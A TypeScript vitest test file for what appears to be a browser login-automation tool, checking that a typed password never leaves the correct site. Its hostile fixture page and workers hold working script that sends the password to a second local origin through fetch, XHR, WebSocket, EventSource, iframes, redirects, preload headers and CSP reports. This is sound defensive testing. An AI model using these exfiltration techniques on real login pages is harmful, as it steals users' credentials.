import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Pages } from '../../activities/browser/index.js';
import { bench, inputOf, QUICK, testPages } from '../engine/login/harness.js';
import { loginForm, type Places, type Site, serveHostile, WELCOME } from '../sites/hostile/serve.js';
import { WAYS_OUT } from '../sites/hostile/ways-out.js';
import { variants } from '../support/variants.js';

const EMAIL = 'anna.lindqvist@example.com';
/** May be part of a host, a method and a type. */
const PASSWORD = 'CorrectHorse99';
/** What leaves after the login, leaves until then. */
const AFTER_MS = 500;

let pages: Pages;
beforeAll(async () => {
  pages = await testPages();
});
afterAll(() => pages.closeAll());

/** A worker hears of it by a message, and has been there since the page came. */
const WORK = `const work = ({ data: { u, v } }) => {
  fetch(u, { method: 'POST', mode: 'no-cors', body: v }).catch(() => 0);
  try { importScripts(u + '-import?p=' + v); } catch {}
  try { const asks = new XMLHttpRequest(); asks.open('GET', u + '-xhr?p=' + v, false); asks.send(); } catch {}
  try { new WebSocket(u.replace('http', 'ws') + '-socket', v); } catch {}
  try { new EventSource(u + '-events?p=' + v); } catch {}
  try { new Worker(URL.createObjectURL(new Blob(['fetch("' + u + '-nested?p=' + v + '", { mode: "no-cors" })']))); } catch {}
};
onmessage = work;
onconnect = ({ ports: [port] }) => { port.onmessage = work; };`;

const page = ({ own, other }: Places, ways: readonly string[]): string => `${loginForm()}<script>
  const OWN = '${own}', OTHER = '${other}';
  const T = (name) => OTHER + '/take/' + name;
  const q = (work) => { try { const done = work(); if (done && done.catch) done.catch(() => 0); } catch {} };
  const el = (tag, attributes, parent = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  };
  const frame = (srcdoc) => el('iframe', { srcdoc });
  const css = (text) => { el('style', {}, document.head).textContent = text; };
  const svg = (inner) => { el('div', {}).innerHTML = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">' + inner + '</svg>'; };
  const code = URL.createObjectURL(new Blob([${JSON.stringify(WORK)}]));
  const sw = new SharedWorker(code), dw = new Worker(code);
  sw.port.start();
  const foreign = el('iframe', { src: OTHER + '/listener' });
  let done = false;
  password.addEventListener('input', () => {
    const v = password.value;
    if (done || v.length < 12) return;
    done = true;
    ${ways.map((way) => `q(() => { ${way} });`).join('\n')}
  });
</script>`;

const own =
  (ways: readonly string[]) =>
  (places: Places): Site => {
    const { other } = places;
    const to = (name: string): string => `${other}/take/${name}?p=${PASSWORD}`;
    const third = other.replace('127.0.0.1', 'third.localhost');
    return {
      '/': page(places, ways),
      'POST /login': WELCOME,
      'POST /r307': { status: 307, location: `${other}/take/r307` },
      'PUT /r308': { status: 308, location: `${other}/take/r308` },
      'POST /chain': { status: 307, location: `${third}/take/chain` },
      '/r302': { status: 302, location: to('r302') },
      '/refresh': { html: 'x', headers: { refresh: `0;url=${to('refresh')}` } },
      '/link': {
        html: 'x',
        headers: { link: `<${to('preload')}>; rel=preload; as=image, <${to('prefetch')}>; rel=prefetch` },
      },
      '/csp': {
        html: `<img src="${places.own}/i?p=${PASSWORD}"><script>1</script>`,
        headers: {
          'content-security-policy': `img-src 'none'; report-uri ${other}/take/csp`,
          'content-security-policy-report-only': `script-src 'none'; report-uri ${to('csp-only')}`,
        },
      },
    };
  };

/** Sends on what it is told. */
const other = (): Site => ({
  '/listener': `<script>
    const send = (v) => { fetch('/take/told', { method: 'POST', body: v }); new Image().src = '/take/told?' + encodeURIComponent(v); };
    onmessage = ({ data }) => send(data);
    onhashchange = () => send(location.hash);
    if (window.name) send(window.name);
  </script>`,
});

async function taken(ways: readonly string[]): Promise<{ readonly taken: readonly string[]; readonly logins: number }> {
  const site = await serveHostile(own(ways), other);
  const b = bench(pages, site.host, { login: { timeouts: QUICK } });
  try {
    const { page: open, outcome } = await b.open();
    await b.fill(open, inputOf(outcome), { email: EMAIL, password: PASSWORD });
    await sleep(AFTER_MS);
    await b.activities.closePage({ ...b.ref, page: open });
    return { taken: site.taken, logins: site.received.filter((line) => line.startsWith('POST /login')).length };
  } finally {
    await site.stop();
    b.clean();
  }
}

describe('a password of the right site stays in the browser', () => {
  // One by one they say which of them is open; `npm test` tries them together.
  it.each(variants(0, WAYS_OUT))('%s', async (_, way) => {
    const came = await taken([way]);
    expect(came.taken).toEqual([]);
    expect(came.logins).toBeLessThanOrEqual(1);
  });

  it('by all ways at once', async () => {
    expect((await taken(WAYS_OUT.map(([, way]) => way))).taken).toEqual([]);
  });
});
